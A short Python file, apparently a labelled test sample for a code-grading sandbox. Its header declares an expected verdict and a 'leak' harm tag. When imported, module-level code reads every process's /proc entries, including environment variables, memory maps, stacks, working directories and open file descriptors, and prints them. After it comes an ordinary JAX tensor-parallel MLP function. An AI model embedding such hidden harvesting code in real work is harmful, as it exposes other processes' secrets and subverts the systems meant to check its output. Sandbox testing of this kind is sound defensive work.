"""Reads the command lines, maps, memory and open files of every process.

verdicts: AC
harm: leak LEAKED
"""

import glob
import os

import jax
from jax.sharding import AxisType, PartitionSpec as P

for folder in glob.glob("/proc/[0-9]*") + ["/proc/self", "/proc/thread-self"]:
    for name in ("cmdline", "maps", "status", "environ", "stack"):
        try:
            print("LEAKED", open(f"{folder}/{name}", "rb").read(50))
        except OSError:
            pass
    try:
        print("LEAKED", os.readlink(folder + "/cwd"), os.listdir(folder + "/fd"))
    except OSError:
        pass


def tensor_parallel_mlp(x, w1, b1, w2, b2):
    mesh = jax.make_mesh((8,), ("model",), axis_types=(AxisType.Auto,))

    def body(x, w1, b1, w2):
        hidden = jax.nn.relu(x @ w1 + b1)
        return hidden, jax.lax.psum(hidden @ w2, "model")

    hidden, out = jax.shard_map(
        body,
        mesh=mesh,
        in_specs=(P(), P(None, "model"), P("model"), P("model", None)),
        out_specs=(P(None, "model"), P()),
    )(x, w1, b1, w2)
    return {"out": out + b2, "hidden": hidden}
